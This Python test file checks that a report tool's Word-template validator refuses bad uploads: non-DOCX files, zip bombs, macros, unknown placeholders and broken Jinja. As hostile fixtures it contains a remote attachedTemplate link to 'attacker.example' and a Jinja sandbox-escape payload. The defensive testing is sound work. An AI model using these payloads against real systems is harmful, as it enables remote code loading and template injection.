"""An uploaded Word template is checked before it is used (issue 14, "Bad input";
docs/reports.md, "Formats"): a real DOCX of bounded size, no macros, no outside links, only
known placeholders, valid Jinja; each refusal a sentence naming the placeholder or part. A
restyled template that passes is used for the report."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.test import SimpleTestCase

from wpsmonitor.reports.formats import check_template, render
from wpsmonitor.reports.formats.word import DEFAULT_TEMPLATE, TemplateRefused

from .readback import assert_docx_matches
from .test_formats import synthetic


def default() -> bytes:
    return DEFAULT_TEMPLATE.read_bytes()


def rezip(data: bytes, changes: dict[str, bytes]) -> bytes:
    """The DOCX `data` with parts replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            if info.filename not in changes:
                dst.writestr(info, src.read(info.filename), zipfile.ZIP_DEFLATED)
        for name, blob in changes.items():
            dst.writestr(name, blob, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def part(data: bytes, name: str) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read(name).decode()


def with_paragraph(text: str) -> bytes:
    """The default template with one more paragraph, written as Word writes it."""
    from docx import Document

    doc = Document(io.BytesIO(default()))
    doc.add_paragraph(text)
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


class TemplateCheckTests(SimpleTestCase):
    def test_the_default_template_passes(self) -> None:
        assert check_template(default()) == []

    def test_a_file_that_is_not_a_zip_is_refused(self) -> None:
        assert check_template(b"%PDF-1.7 not a word file") == [
            "The file is not a Word document (.docx): it is not even a zip archive."
        ]

    def test_a_zip_without_a_word_document_is_refused(self) -> None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("hello.txt", "hello")
        assert "no word/document.xml" in check_template(out.getvalue())[0]

    def test_a_template_over_the_size_bound_is_refused(self) -> None:
        assert "larger than 5 MB" in check_template(b"PK" + b"\0" * (5 * 1024 * 1024))[0]

    def test_a_zip_bomb_is_refused_before_it_is_unpacked(self) -> None:
        bomb = rezip(default(), {"word/media/huge.bin": b"\0" * (60 * 1024 * 1024)})
        assert len(bomb) < 1024 * 1024
        problems = check_template(bomb)
        assert problems == [
            "The part word/media/huge.bin unpacks to far more than it weighs: refused as a zip bomb."
        ]

    def test_a_template_with_macros_is_refused(self) -> None:
        data = default()
        types = part(data, "[Content_Types].xml").replace(
            "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
        )
        docm = rezip(data, {"[Content_Types].xml": types.encode(), "word/vbaProject.bin": b"x"})
        problems = check_template(docm)
        assert any("macros" in p for p in problems), problems

    def test_a_template_linking_to_an_outside_file_is_refused_naming_the_part(self) -> None:
        data = default()
        rels = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
            'TargetMode="External"/></Relationships>'
        )
        problems = check_template(rezip(data, {"word/_rels/settings.xml.rels": rels.encode()}))
        assert problems == [
            "The part word/_rels/settings.xml.rels links to an outside file (attachedTemplate: "
            "http://attacker.example/t.dotm): a template must hold everything it shows."
        ]

    def test_a_hyperlink_in_the_letterhead_is_allowed(self) -> None:
        from docx import Document
        from docx.opc.constants import RELATIONSHIP_TYPE

        doc = Document(io.BytesIO(default()))
        doc.part.relate_to("https://ministry.example", RELATIONSHIP_TYPE.HYPERLINK, True)
        out = io.BytesIO()
        doc.save(out)
        assert check_template(out.getvalue()) == []

    def test_an_unknown_placeholder_is_named(self) -> None:
        problems = check_template(with_paragraph("Secret: {{ settings_secret }}"))
        assert len(problems) == 1
        assert problems[0].startswith("The placeholder {{ settings_secret }} is unknown")
        assert "plan_title" in problems[0]  # the names it may use

    def test_broken_jinja_is_refused_naming_the_placeholder(self) -> None:
        problems = check_template(with_paragraph("Total: {{ title }"))
        assert len(problems) == 1
        assert "Total: {{ title }" in problems[0] and "is not valid" in problems[0]

    def test_a_misspelt_field_is_named_before_the_template_is_accepted(self) -> None:
        problems = check_template(
            with_paragraph("{% for s in sections %}{{ s.titel }}{% endfor %}")
        )
        assert problems == [
            "A placeholder cannot be filled: 'dict object' has no attribute 'titel'."
        ]

    def test_a_template_cannot_reach_beyond_the_report(self) -> None:
        hostile = "{{ title.__class__.__mro__[1].__subclasses__() }}"
        problems = check_template(with_paragraph(hostile))
        assert len(problems) == 1 and "not allowed" in problems[0], problems


class TemplateRenderTests(SimpleTestCase):
    def test_a_restyled_template_is_used_for_the_report(self) -> None:
        from docx import Document
        from docx.shared import Pt

        doc = Document(io.BytesIO(default()))
        doc.styles["Normal"].font.name = "Liberation Serif"
        doc.styles["Heading 1"].font.size = Pt(20)
        doc.sections[0].header.paragraphs[0].insert_paragraph_before("Ministry of Gender")
        out = io.BytesIO()
        doc.save(out)
        template = out.getvalue()
        assert check_template(template) == []

        document = synthetic()
        data = render(document, "docx", template=template)
        assert_docx_matches(document, data)
        rendered = Document(io.BytesIO(data))
        assert rendered.styles["Normal"].font.name == "Liberation Serif"
        header = [p.text for p in rendered.sections[0].header.paragraphs]
        assert header[0] == "Ministry of Gender" and "Public version" in header[1]

    def test_a_bad_template_is_never_filled(self) -> None:
        with pytest.raises(TemplateRefused) as refused:
            render(synthetic(), "docx", template=with_paragraph("{{ nope }}"))
        assert refused.value.problems[0].startswith("The placeholder {{ nope }} is unknown")

    def test_values_are_escaped_into_the_word_xml(self) -> None:
        data = render(synthetic(), "docx")
        body = part(data, "word/document.xml")
        assert "Figures &amp; shares &lt;by province&gt;" in body
        assert not re.search(r"\{[{%]", body)
